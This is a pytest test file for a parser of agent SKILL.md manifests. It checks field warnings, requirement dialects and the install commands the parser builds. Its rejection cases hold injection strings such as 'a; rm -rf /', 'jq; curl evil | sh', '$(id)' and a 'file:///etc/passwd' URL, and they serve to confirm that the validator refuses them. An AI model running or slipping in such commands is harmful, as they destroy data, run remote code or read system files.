"""What a SKILL.md says, and what is said about it when it says that badly."""

from typing import Any

import pytest

from agents.skills.manifest import Manifest
from tests.agents.skills.shelf import DESCRIPTION, DIALECTS, GO, NPM, UV, Shelf, as_block, as_flow


def said(shelf: Shelf, text: str, name: str = "tool") -> Manifest:
    shelf.add(text, name)
    return shelf.only().manifest


def head(**fields: str) -> str:
    fields = {"name": "tool", "description": DESCRIPTION} | fields
    lines = "".join(f"{name.replace('_', '-')}: {value}\n" for name, value in fields.items() if value)
    return f"---\n{lines}---\n# Tool\n"


def test_the_fields_of_agent_skills(shelf: Shelf) -> None:
    skill = said(
        shelf,
        head(license="MIT", compatibility="Linux", metadata="{author: me}", allowed_tools="Bash Read"),
    )

    assert (skill.key, skill.name, skill.description) == ("tool", "tool", DESCRIPTION)
    assert (skill.warnings, skill.problems) == ([], [])


@pytest.mark.parametrize(
    ("fields", "warning"),
    [
        ({"name": ""}, "goes by its folder's"),
        ({"name": "other"}, "is not the folder's, tool"),
        ({"name": "Tool_2"}, "should be of a-z"),
        ({"name": "a" * 65}, "The name has 65 characters, more than the 64"),
        ({"description": "d" * 1025}, "The description has 1,025 characters, more than the 1,024"),
        ({"compatibility": "c" * 501}, "The compatibility has 501 characters"),
        ({"license": "[MIT]"}, "license is no text"),
        ({"allowed_tools": "{a: b}"}, "allowed-tools is no list"),
        ({"colour": "red"}, "The field colour is not read"),
        ({"metadata": "{other: {requires: {bins: [jq]}}}"}, "What metadata.other requires is not read"),
        ({"description": "Use it: here"}, "was read line by line"),
    ],
)  # fmt: skip
def test_what_is_only_not_nice_is_a_warning(shelf: Shelf, fields: dict[str, str], warning: str) -> None:
    skill = said(shelf, head(**fields))

    assert any(warning in one for one in skill.warnings), skill.warnings
    assert skill.problems == []


def test_a_long_body_is_a_warning_and_a_very_long_description_is_cut(shelf: Shelf) -> None:
    skill = said(shelf, head(description="d" * 9000) + "line\n" * 600)

    assert any("advised" in warning for warning in skill.warnings)
    assert 4000 <= len(skill.description) < 4100


def test_what_cannot_be_seen_is_written_out(shelf: Shelf) -> None:
    skill = said(shelf, head(description='"Does \\u202E good \\uD800"'))

    assert "⟨U+202E⟩" in skill.description
    skill.description.encode()


@pytest.mark.parametrize("text", ["no frontmatter", head(description="")])
def test_without_what_says_when_to_use_it_it_is_blocked(shelf: Shelf, text: str) -> None:
    assert [code for code, _ in said(shelf, text).problems] == ["unreadable"]


@pytest.mark.parametrize("namespace", ["openclaw", "clawdbot", "clawdis"])
@pytest.mark.parametrize("write", DIALECTS)
def test_requirements_are_read_in_each_dialect_under_each_name(
    shelf: Shelf, write: Any, namespace: str
) -> None:
    """openclaw#71323: an older name that was not read made skills look ready."""
    manifest = {
        "always": False,
        "os": ["linux", "MacOS"],
        "requires": {"bins": ["jq"], "anyBins": "rg, grep", "env": ["TOKEN"], "config": ["browser.enabled"]},
        "primaryEnv": "TOKEN",
        "skillKey": "own-key",
        "install": [{"kind": "brew", "formula": "jq", "bins": ["jq"]}],
    }

    skill = said(shelf, write(manifest, namespace))

    wanted = skill.requires
    assert (wanted.always, wanted.os, wanted.bins, wanted.any_bins) == (
        False,
        ["linux", "darwin"],
        ["jq"],
        ["rg", "grep"],
    )
    assert (wanted.env, wanted.config, wanted.primary_env) == (["TOKEN"], ["browser.enabled"], "TOKEN")
    assert (skill.config_key, [way.command for way in wanted.install]) == ("own-key", ["brew install jq"])
    assert skill.problems == []


@pytest.mark.parametrize(
    "manifest",
    [
        [],
        {"requires": ["jq"]},
        {"requires": {"bins": {"jq": True}}},
        {"requires": {"bins": [1]}},
        {"requires": {"bins": ["../bin/sh"]}},
        {"requires": {"bins": ["a; rm -rf /"]}},
        {"requires": {"anyBins": ["-rf"]}},
        {"requires": {"env": ["A=B"]}},
        {"requires": {"config": ["a..b"]}},
        {"requires": {"bins": [f"b{number}" for number in range(51)]}},
        {"os": {"linux": True}},
    ],
)
def test_a_requirement_that_cannot_be_understood_blocks(shelf: Shelf, manifest: Any) -> None:
    """To leave it out would make the skill look ready."""
    shelf.add(as_flow(manifest))

    found = shelf.only()

    assert found.verdict.status == "blocked"
    assert [code for code, _ in found.manifest.problems] == ["requirements"]


def test_a_map_among_the_configuration_is_left_out_and_said(shelf: Shelf) -> None:
    skill = said(shelf, as_flow({"requires": {"config": ["a.b", {"path": "c"}]}}))

    assert skill.requires.config == ["a.b"]
    assert "An entry of requires.config is a map: it is not checked" in skill.warnings


@pytest.mark.parametrize(
    ("entry", "command"),
    [
        ({"kind": "brew", "formula": "steipete/tap/jq"}, "brew install steipete/tap/jq"),
        ({"type": "brew", "cask": "docker"}, "brew install --cask docker"),
        ({"kind": "node", "package": "@a/b@1.2"}, f"{NPM} @a/b@1.2"),
        ({"kind": "go", "module": "github.com/a/b/cmd/c"}, f"{GO} github.com/a/b/cmd/c@latest"),
        ({"kind": "go", "module": "github.com/a/b@v1.0.0"}, f"{GO} github.com/a/b@v1.0.0"),
        ({"kind": "uv", "package": "ruff"}, f"{UV} ruff"),
        ({"kind": "uv", "package": "a[b]==1.0"}, f"{UV} 'a[b]==1.0'"),
        (
            {"kind": "download", "url": "https://example.org/a/t.tgz?x=1&y=2"},
            "curl --fail --location --output t.tgz 'https://example.org/a/t.tgz?x=1&y=2'",
        ),
        (
            {"kind": "download", "url": "https://example.org/t", "sha256": "A" * 64},
            "curl --fail --location --output t https://example.org/t"
            f" && echo '{'a' * 64}  t' | sha256sum --check",
        ),
    ],
)  # fmt: skip
def test_ways_to_install(shelf: Shelf, entry: dict[str, Any], command: str) -> None:
    skill = said(shelf, as_block({"install": [entry]}))

    assert [way.command for way in skill.requires.install] == [command]
    assert skill.warnings == []


@pytest.mark.parametrize(
    "entry",
    [
        "jq",
        {"kind": "apt", "package": "jq"},
        {"kind": ["brew"], "formula": "jq"},
        {"kind": "brew"},
        {"kind": "brew", "formula": "jq; curl evil | sh"},
        {"kind": "brew", "formula": "--HEAD"},
        {"kind": "brew", "formula": "a/../b"},
        {"kind": "node", "package": "$(id)"},
        {"kind": "node", "package": "file:../x"},
        {"kind": "node", "package": "a\nb"},
        {"kind": "go", "module": "-x"},
        {"kind": "go", "module": "ünï.org/a"},
        {"kind": "uv", "package": "-r evil"},
        {"kind": "uv", "package": "a" * 201},
        {"kind": "download", "url": "file:///etc/passwd"},
        {"kind": "download", "url": "https://user:pw@example.org/a"},
        {"kind": "download", "url": "https://example.org/a b"},
        {"kind": "download", "url": "https://example.org/"},
        {"kind": "download", "url": "https://[example.org/a"},
        {"kind": "download", "url": "https://example.org/-o"},
        {"kind": "download", "url": "https://example.org/a", "sha256": "abc"},
        {"kind": "brew", "formula": "jq", "bins": {"jq": 1}},
    ],
)
def test_a_way_that_is_wrong_is_left_out_and_said(shelf: Shelf, entry: Any) -> None:
    """openclaw drops such entries in silence."""
    skill = said(shelf, as_flow({"install": [entry, {"kind": "uv", "package": "good"}]}))

    assert [way.command for way in skill.requires.install] == [f"{UV} good"]
    assert skill.warnings[0].startswith("Way 1 to install it is left out: ")
    assert skill.problems == []
